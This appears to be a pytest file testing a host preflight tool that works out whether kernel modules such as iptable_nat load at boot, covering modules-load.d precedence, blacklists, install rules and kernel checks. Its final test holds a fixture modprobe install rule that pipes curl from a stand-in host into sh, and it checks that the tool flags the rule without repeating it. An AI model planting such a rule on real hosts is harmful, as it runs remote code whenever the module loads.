"""Each systemd-modules-load / kmod / kernel rule on its own, on a small generated root."""

from __future__ import annotations

from pathlib import Path

import pytest

from preflight.node.api import analyze_host
from preflight.node.loadability import boot_fact, module_fact
from preflight.node.model import NodeReport, Severity
from tests.node.profiles import HEALTHY as KVER
from tests.node.profiles import HEALTHY_LOADED as LOADED
from tests.node.profiles import healthy, selinux_enforcing
from tests.node.rootbuilder import HostRoot

NEWER = "6.1.0-18-amd64"
OLDER = "6.1.0-9-amd64"


def report_of(root: HostRoot, *modules: str) -> NodeReport:
    return analyze_host(str(root.path), modules=list(modules) or ["iptable_nat", "iptable_filter"])


def codes(report: NodeReport, module: str | None = "iptable_nat") -> list[str]:
    return [f.code for f in report.findings if module is None or f.module == module]


def listed(
    report: NodeReport, module: str = "iptable_nat"
) -> list[tuple[str, int | None, str | None]]:
    return [(s.path, s.line, s.via) for s in report.modules[module].listed_in]


def ignored(report: NodeReport, module: str = "iptable_nat") -> list[tuple[str, int | None, str]]:
    return [(i.path, i.line, i.code) for i in report.modules[module].ignored]


def test_healthy_healthy(tmp_path: Path) -> None:
    report = report_of(healthy(tmp_path))
    assert report.ok and report.findings == []
    assert listed(report) == [("/etc/modules-load.d/dind.conf", 1, None)]


# --- which files count -------------------------------------------------------------------------


def test_same_name_in_an_earlier_directory_overrides(tmp_path: Path) -> None:
    root = healthy(tmp_path, listed=False)
    root.lines("/usr/lib/modules-load.d/dind.conf", "iptable_nat")
    root.lines("/etc/modules-load.d/dind.conf", "overlay")
    report = report_of(root, "iptable_nat")
    assert listed(report) == []
    assert ignored(report) == [("/usr/lib/modules-load.d/dind.conf", 1, "modules-load-overridden")]
    assert codes(report) == ["modules-load-overridden"]
    assert (
        "overridden by /etc/modules-load.d/dind.conf"
        in report.modules["iptable_nat"].ignored[0].reason
    )


@pytest.mark.parametrize("winner", ["/etc", "/run", "/usr/local/lib"])
def test_precedence_order(tmp_path: Path, winner: str) -> None:
    root = healthy(tmp_path, listed=False)
    order = ["/etc", "/run", "/usr/local/lib", "/usr/lib"]
    root.lines(f"{winner}/modules-load.d/x.conf", "iptable_nat")
    # Copies of the same name in every later directory list something else: they do not count.
    for directory in order[order.index(winner) + 1 :]:
        root.lines(f"{directory}/modules-load.d/x.conf", "overlay")
    report = report_of(root, "iptable_nat", "overlay")
    assert listed(report) == [(f"{winner}/modules-load.d/x.conf", 1, None)]
    assert listed(report, "overlay") == []
    assert report.modules_load_files == [f"{winner}/modules-load.d/x.conf"]


@pytest.mark.parametrize("mask", ["dev-null", "empty", "comments-only"])
def test_mask_in_etc_hides_the_vendor_file(tmp_path: Path, mask: str) -> None:
    root = healthy(tmp_path, listed=False)
    root.lines("/usr/lib/modules-load.d/dind.conf", "iptable_nat")
    if mask == "dev-null":
        root.symlink("/etc/modules-load.d/dind.conf", "/dev/null")
    elif mask == "empty":
        root.file("/etc/modules-load.d/dind.conf", "")
    else:
        root.lines("/etc/modules-load.d/dind.conf", "# disabled by ops")
    report = report_of(root, "iptable_nat")
    assert ignored(report) == [("/usr/lib/modules-load.d/dind.conf", 1, "modules-load-masked")]
    assert codes(report) == ["modules-load-masked"]
    assert not report.modules["iptable_nat"].loads_at_boot


@pytest.mark.parametrize(
    "name", ["dind", "dind.conf.rpmsave", "dind.conf~", ".dind.conf", "dind.CONF", "dind.conf.bak"]
)
def test_only_conf_files_are_read(tmp_path: Path, name: str) -> None:
    root = healthy(tmp_path, listed=False)
    root.lines(f"/etc/modules-load.d/{name}", "iptable_nat")
    report = report_of(root, "iptable_nat")
    assert listed(report) == []
    assert ignored(report) == [(f"/etc/modules-load.d/{name}", 1, "modules-load-not-conf")]
    assert codes(report) == ["modules-load-not-conf"]


def test_files_are_read_in_basename_order_across_directories(tmp_path: Path) -> None:
    root = healthy(tmp_path, listed=False)
    root.lines("/usr/lib/modules-load.d/a.conf", "overlay")
    root.lines("/etc/modules-load.d/b.conf", "iptable_nat")
    root.lines("/run/modules-load.d/c.conf", "iptable_filter")
    report = report_of(root)
    assert report.modules_load_files == [
        "/usr/lib/modules-load.d/a.conf",
        "/etc/modules-load.d/b.conf",
        "/run/modules-load.d/c.conf",
    ]


# --- lines -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("line", "counts"),
    [
        ("iptable_nat", True),
        ("   iptable_nat\t", True),
        ("iptable-nat", True),  # '-' and '_' are the same character to kmod
        ("iptable_nat\r", True),  # CRLF files work: \r ends a line for read_line
        ("#iptable_nat", False),
        (";iptable_nat", False),
        ("  # iptable_nat", False),
    ],
)
def test_line_syntax(tmp_path: Path, line: str, counts: bool) -> None:
    root = healthy(tmp_path, listed=False)
    root.file("/etc/modules-load.d/dind.conf", f"{line}\n")
    report = report_of(root, "iptable_nat")
    assert (listed(report) == [("/etc/modules-load.d/dind.conf", 1, None)]) is counts
    assert report.modules["iptable_nat"].loads_at_boot is counts


@pytest.mark.parametrize("line", ["iptable_nat # for dind", "iptable_nat opt=1"])
def test_whole_line_is_the_name(tmp_path: Path, line: str) -> None:
    root = healthy(tmp_path, listed=False)
    root.lines("/etc/modules-load.d/dind.conf", line)
    report = report_of(root, "iptable_nat")
    assert listed(report) == []
    assert ignored(report) == [("/etc/modules-load.d/dind.conf", 1, "modules-load-params")]
    assert codes(report) == ["modules-load-params"]


def test_existing_remedy_file_keeps_its_other_names(tmp_path: Path) -> None:
    root = healthy(tmp_path, listed=False)
    root.lines("/etc/modules-load.d/iptable_nat.conf", "overlay", "iptable_nat opt=1")
    report = report_of(root)
    fix = report.findings[0].remedy
    assert fix is not None and fix.file == "/etc/modules-load.d/iptable_nat.conf"
    assert fix.content == "overlay\niptable_nat\niptable_filter\n"


# --- the kernel command line -----------------------------------------------------------------


@pytest.mark.parametrize(
    "param",
    [
        "modules_load=iptable_nat,iptable_filter",
        "modules-load=iptable_filter,iptable_nat",
        'modules_load="iptable_nat,iptable_filter"',
    ],
)
def test_cmdline_modules_load(tmp_path: Path, param: str) -> None:
    report = report_of(healthy(tmp_path, listed=False, cmdline=f"ro quiet {param}"))
    assert report.ok
    assert listed(report) == [("/proc/cmdline", None, None)]


def test_rd_modules_load_is_initrd_only(tmp_path: Path) -> None:
    root = healthy(tmp_path, listed=False, cmdline="ro rd.modules_load=iptable_nat")
    report = report_of(root, "iptable_nat")
    assert listed(report) == []
    assert ignored(report) == [("/proc/cmdline", None, "initrd-only")]
    assert codes(report) == ["initrd-only"]


# --- blacklists, install rules, module_blacklist ----------------------------------------------


def test_blacklist_stops_systemd_modules_load(tmp_path: Path) -> None:
    root = healthy(tmp_path)
    root.lines(
        "/etc/modprobe.d/no-nat.conf",
        "# security baseline",
        "blacklist iptable_nat",
        "options nf_conntrack hashsize=4096",
    )
    report = report_of(root)
    state = report.modules["iptable_nat"]
    assert listed(report) == [("/etc/modules-load.d/dind.conf", 1, None)]
    assert not state.loads_at_boot
    assert [(b.code, b.path, b.line) for b in state.blockers] == [
        ("blacklisted", "/etc/modprobe.d/no-nat.conf", 2)
    ]
    finding = next(f for f in report.findings if f.code == "blacklisted")
    assert finding.severity is Severity.ERROR
    assert finding.remedy is not None
    assert finding.remedy.file == "/etc/modprobe.d/no-nat.conf"
    assert finding.remedy.content == "# security baseline\noptions nf_conntrack hashsize=4096\n"
    # A blacklist does not stop the kernel's own request for the plain name.
    assert report.iptables.legacy_nat_autoload
    assert report.modules["iptable_filter"].loads_at_boot


def test_vendor_blacklist_is_overridden_from_etc(tmp_path: Path) -> None:
    root = healthy(tmp_path)
    root.lines("/usr/lib/modprobe.d/hardening.conf", "blacklist iptable-nat", "blacklist dccp")
    report = report_of(root)
    finding = next(f for f in report.findings if f.code == "blacklisted")
    assert finding.remedy is not None
    assert finding.remedy.file == "/etc/modprobe.d/hardening.conf"
    assert finding.remedy.content == "blacklist dccp\n"


def test_blacklist_in_overridden_modprobe_file_does_not_count(tmp_path: Path) -> None:
    root = healthy(tmp_path)
    root.lines("/usr/lib/modprobe.d/hardening.conf", "blacklist iptable_nat")
    root.symlink("/etc/modprobe.d/hardening.conf", "/dev/null")
    report = report_of(root)
    assert report.ok
    assert report.modprobe_files == ["/etc/modprobe.d/hardening.conf"]


def test_cmdline_modprobe_blacklist(tmp_path: Path) -> None:
    root = healthy(tmp_path, cmdline="ro modprobe.blacklist=dccp,iptable_nat")
    root.file("/usr/sbin/grubby", "#!/bin/sh\n")
    report = report_of(root)
    state = report.modules["iptable_nat"]
    assert [(b.code, b.path) for b in state.blockers] == [("blacklisted", "/proc/cmdline")]
    finding = next(f for f in report.findings if f.code == "blacklisted")
    assert finding.remedy is not None
    assert finding.remedy.load_now == (
        "grubby --update-kernel=ALL --remove-args=modprobe.blacklist=dccp,iptable_nat "
        "--args=modprobe.blacklist=dccp"
    )


def test_cmdline_modprobe_blacklist_is_literal(tmp_path: Path) -> None:
    # kmod does not normalise names from the command line: iptable-nat blacklists nothing.
    report = report_of(healthy(tmp_path, cmdline="ro modprobe.blacklist=iptable-nat"))
    assert report.ok


def test_kernel_module_blacklist_blocks_every_path(tmp_path: Path) -> None:
    root = healthy(tmp_path, loaded=False, cmdline="ro module_blacklist=iptable_nat")
    report = report_of(root)
    state = report.modules["iptable_nat"]
    assert [b.code for b in state.blockers] == ["kernel-module-blacklist"]
    assert not state.loads_at_boot and not state.autoload_on_use
    assert not report.iptables.legacy_nat_autoload
    assert "module-not-loaded" in codes(report)
    finding = next(f for f in report.findings if f.code == "module-not-loaded")
    assert finding.severity is Severity.ERROR


def test_kernel_module_blacklist_of_a_dependency(tmp_path: Path) -> None:
    report = report_of(healthy(tmp_path, cmdline="ro module_blacklist=nf_nat"))
    state = report.modules["iptable_nat"]
    assert [(b.code, b.module) for b in state.blockers] == [("kernel-module-blacklist", "nf_nat")]
    assert not state.loads_at_boot
    assert report.modules["iptable_filter"].loads_at_boot


def test_module_blacklist_after_double_dash_is_for_init(tmp_path: Path) -> None:
    report = report_of(healthy(tmp_path, cmdline="ro -- module_blacklist=iptable_nat"))
    assert report.ok


@pytest.mark.parametrize(
    ("rule", "code", "module", "boots"),
    [
        ("install iptable_nat /bin/false", "install-false", "iptable_nat", False),
        ("install iptable_nat /bin/true", "install-true", "iptable_nat", False),
        ("install iptable-nat exit 1", "install-false", "iptable_nat", False),
        ("install nf_nat /bin/false", "install-false", "nf_nat", False),
        ("install iptable_* /usr/bin/false", "install-false", "iptable_nat", False),
        (
            "install iptable_nat /usr/local/bin/audit-load iptable_nat",
            "install-command",
            "iptable_nat",
            True,
        ),
    ],
)
def test_install_rules(tmp_path: Path, rule: str, code: str, module: str, boots: bool) -> None:
    root = healthy(tmp_path)
    root.lines("/etc/modprobe.d/rules.conf", rule)
    report = report_of(root, "iptable_nat")
    state = report.modules["iptable_nat"]
    assert [(b.code, b.module) for b in state.blockers] == [(code, module)]
    assert state.loads_at_boot is boots
    assert code in codes(report)


def test_install_rule_that_loads_with_ignore_install_is_fine(tmp_path: Path) -> None:
    root = healthy(tmp_path)
    root.lines(
        "/etc/modprobe.d/rules.conf",
        "install iptable_nat /sbin/modprobe --ignore-install iptable_nat && logger loaded",
    )
    report = report_of(root)
    assert report.ok and report.findings == []


def test_first_install_rule_wins_and_continuations_join(tmp_path: Path) -> None:
    root = healthy(tmp_path)
    root.file("/etc/modprobe.d/a.conf", "install iptable_nat \\\n  /bin/false\n")
    root.lines(
        "/etc/modprobe.d/b.conf", "install iptable_nat /sbin/modprobe --ignore-install iptable_nat"
    )
    report = report_of(root)
    blocker = report.modules["iptable_nat"].blockers[0]
    assert (blocker.code, blocker.path, blocker.line, blocker.text) == (
        "install-false",
        "/etc/modprobe.d/a.conf",
        1,
        "install iptable_nat   /bin/false",
    )
    fix = next(f for f in report.findings if f.code == "install-false").remedy
    assert fix is not None and fix.content == ""


def test_blacklist_stops_the_nft_alias_autoload_only(tmp_path: Path) -> None:
    root = healthy(tmp_path, loaded=False)
    root.lines("/etc/modprobe.d/bl.conf", "blacklist nft_chain_nat", "blacklist iptable_nat")
    report = report_of(root, "nft_chain_nat", "iptable_nat")
    assert not report.modules["nft_chain_nat"].autoload_on_use
    assert report.modules["iptable_nat"].autoload_on_use


def test_bare_module_name_in_modprobe_d(tmp_path: Path) -> None:
    root = healthy(tmp_path, listed=False)
    root.lines("/etc/modprobe.d/dind.conf", "iptable_nat")
    report = report_of(root, "iptable_nat")
    assert ignored(report) == [("/etc/modprobe.d/dind.conf", 1, "modprobe-d-not-loading")]
    assert codes(report) == ["modprobe-d-not-loading"]


# --- /etc/modules ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("link", "target", "counted"),
    [
        ("/etc/modules-load.d/modules.conf", "../modules", True),
        ("/etc/modules-load.d/modules.conf", "/etc/modules", True),
        ("/usr/lib/modules-load.d/modules.conf", "../../../etc/modules", True),
        ("/etc/modules-load.d/modules", "../modules", False),
    ],
)
def test_etc_modules_counts_only_through_an_effective_conf(
    tmp_path: Path, link: str, target: str, counted: bool
) -> None:
    root = healthy(tmp_path, listed=False)
    root.lines("/etc/modules", "iptable_nat")
    root.symlink(link, target)
    report = report_of(root, "iptable_nat")
    if counted:
        assert listed(report) == [("/etc/modules", 1, link)]
        assert report.ok
    else:
        assert listed(report) == []
        assert "etc-modules-not-read" in [i.code for i in report.modules["iptable_nat"].ignored]


def test_etc_modules_link_masked_in_etc(tmp_path: Path) -> None:
    root = healthy(tmp_path, listed=False)
    root.lines("/etc/modules", "iptable_nat")
    root.symlink("/usr/lib/modules-load.d/modules.conf", "/etc/modules")
    root.symlink("/etc/modules-load.d/modules.conf", "/dev/null")
    report = report_of(root, "iptable_nat")
    assert listed(report) == []
    assert codes(report) == ["etc-modules-not-read"]


def test_parameters_in_etc_modules_break_the_line(tmp_path: Path) -> None:
    root = healthy(tmp_path, listed=False)
    root.lines("/etc/modules", "iptable_nat hashsize=1")
    root.symlink("/etc/modules-load.d/modules.conf", "../modules")
    report = report_of(root, "iptable_nat")
    assert ignored(report) == [("/etc/modules", 1, "modules-load-params")]


# --- kernels ---------------------------------------------------------------------------------


def test_unknown_module_for_the_running_kernel(tmp_path: Path) -> None:
    root = HostRoot(tmp_path / "root").merged_usr()
    root.kernel(KVER, modules=["x_tables", "ip_tables", "iptable_filter"])
    root.proc(KVER, ["x_tables"])
    root.lines("/etc/modules-load.d/dind.conf", "iptable_nat", "iptable_filter")
    report = report_of(root)
    state = report.modules["iptable_nat"]
    assert (state.available, state.loads_at_boot) == (False, False)
    assert codes(report) == ["module-unavailable"]
    assert report.kernels[0].missing == ["iptable_nat"]


def test_alias_listing_counts_for_its_module(tmp_path: Path) -> None:
    root = healthy(tmp_path)
    root.lines("/etc/modules-load.d/nft.conf", "nft-chain-2-nat")
    report = report_of(root, "nft_chain_nat")
    assert listed(report, "nft_chain_nat") == [("/etc/modules-load.d/nft.conf", 1, None)]
    assert report.modules["nft_chain_nat"].loads_at_boot


@pytest.mark.parametrize(
    ("other", "severity"), [(NEWER, Severity.ERROR), (OLDER, Severity.WARNING)]
)
def test_installed_kernel_without_the_module(
    tmp_path: Path, other: str, severity: Severity
) -> None:
    root = healthy(tmp_path)
    root.kernel(other, modules=["x_tables", "ip_tables", "iptable_filter"])
    report = report_of(root)
    # Any installed kernel may boot next: one without the module is a fault after the next boot
    # (the finding's severity still says which is the likely next boot).
    assert not report.ok
    assert boot_fact(report, "iptable_nat") == "absent"
    assert module_fact(report, "iptable_nat") == "loaded"
    finding = next(f for f in report.findings if f.code == "kernel-missing-module")
    assert (finding.module, finding.kernel, finding.severity) == ("iptable_nat", other, severity)
    other_kernel = next(k for k in report.kernels if k.release == other)
    assert other_kernel.missing == ["iptable_nat"]
    assert other_kernel.newest is (other == NEWER)


def test_leftover_module_directory_is_not_a_kernel(tmp_path: Path) -> None:
    root = healthy(tmp_path)
    root.dir("/lib/modules/5.10.0-8-amd64/updates/dkms")
    report = report_of(root)
    assert [k.release for k in report.kernels] == [KVER]
    assert any("5.10.0-8-amd64" in note for note in report.notes)


def test_running_kernel_modules_removed(tmp_path: Path) -> None:
    root = HostRoot(tmp_path / "root").merged_usr()
    root.kernel(NEWER)
    root.proc(KVER, ["x_tables"])
    root.lines("/etc/modules-load.d/dind.conf", "iptable_nat", "iptable_filter")
    report = report_of(root)
    assert "running-kernel-modules-missing" in codes(report, None)
    finding = next(f for f in report.findings if f.code == "running-kernel-modules-missing")
    assert finding.severity is Severity.ERROR
    assert not report.ok
    # Boot is judged for the newest installed kernel, which has both and lists them.
    assert report.modules["iptable_nat"].loads_at_boot
    assert any(f"judged for kernel {NEWER}" in note for note in report.notes)


def test_running_kernel_modules_removed_and_nothing_listed(tmp_path: Path) -> None:
    root = HostRoot(tmp_path / "root").merged_usr()
    selinux_enforcing(root)  # a container's module request is denied: the listing matters
    root.kernel(NEWER)
    root.proc(KVER, LOADED)
    report = report_of(root)
    assert codes(report) == ["module-not-persistent"]
    assert report.modules["iptable_nat"].loaded
    assert report.modules["iptable_nat"].available  # loaded: it exists in the running kernel


def test_missing_modules_dep(tmp_path: Path) -> None:
    root = HostRoot(tmp_path / "root").merged_usr()
    root.kernel(KVER, with_index=False)
    root.proc(KVER, LOADED)
    root.lines("/etc/modules-load.d/dind.conf", "iptable_nat", "iptable_filter")
    report = report_of(root)
    assert "modules-dep-missing" in codes(report, None)
    assert report.kernels[0].problem is not None


def test_modules_disabled(tmp_path: Path) -> None:
    root = healthy(tmp_path, loaded=False)
    root.proc(KVER, ["x_tables"], modules_disabled="1")
    report = report_of(root)
    assert "modules-disabled" in codes(report, None)
    assert not report.modules["iptable_nat"].autoload_on_use


# --- what can be seen ------------------------------------------------------------------------


def test_no_proc_directory(tmp_path: Path) -> None:
    root = HostRoot(tmp_path / "root").merged_usr()
    root.kernel(KVER)
    root.lines("/etc/modules-load.d/dind.conf", "iptable_nat", "iptable_filter")
    report = report_of(root)
    assert report.kernel is None and report.proc is None
    assert not report.modules["iptable_nat"].loaded_known
    assert report.modules["iptable_nat"].loads_at_boot  # judged for the only installed kernel
    assert "module-state-unknown" in codes(report)
    assert any("no proc directory" in note for note in report.notes)


def test_sys_module_when_proc_modules_is_missing(tmp_path: Path) -> None:
    root = healthy(tmp_path)
    (root.host("/proc/modules")).unlink()
    root.lines("/sys/module/iptable_nat/initstate", "live")
    root.dir("/sys/module/iptable_filter/parameters")
    report = report_of(root)
    nat, flt = report.modules["iptable_nat"], report.modules["iptable_filter"]
    assert (nat.loaded, nat.builtin, nat.loaded_source) == (True, False, "sys-module")
    assert (flt.loaded, flt.builtin, flt.loaded_source) == (True, True, "sys-module")


@pytest.mark.parametrize(
    ("value", "present"), [("y", True), ("n", False)], ids=["built-in", "not-set"]
)
def test_monolithic_kernel(tmp_path: Path, value: str, present: bool) -> None:
    root = HostRoot(tmp_path / "root").merged_usr()
    root.proc(
        "6.18.44-mono",
        modules_file=False,
        config={"CONFIG_MODULES": "n", "CONFIG_IP_NF_NAT": value, "CONFIG_IP_NF_FILTER": "y"},
    )
    report = report_of(root)
    assert report.module_support is False
    state = report.modules["iptable_nat"]
    assert (state.loaded, state.builtin, state.loads_at_boot) == (present, present, present)
    assert state.loaded_known and state.config_value == value
    assert "no-module-support" in codes(report, None)
    assert ("module-unavailable" in codes(report)) is not present
    assert "running-kernel-modules-missing" not in codes(report, None)
    assert report.ok is present


def test_an_install_rule_is_a_finding_never_a_command_to_run(tmp_path: Path) -> None:
    root = healthy(tmp_path, loaded=False)
    evil = "install iptable_nat /bin/sh -c 'curl -s http://x.invalid/p | sh'"
    root.lines("/etc/modprobe.d/x.conf", evil)
    report = report_of(root)
    finding = next(f for f in report.findings if f.code == "install-command")
    assert evil in finding.message  # the finding names what it found ...
    for f in report.findings:  # ... and no fix repeats it
        if f.remedy is not None:
            fix = f.remedy
            for text in (fix.load_now, fix.verify, fix.text, fix.content):
                assert "curl" not in (text or ""), (f.code, text)
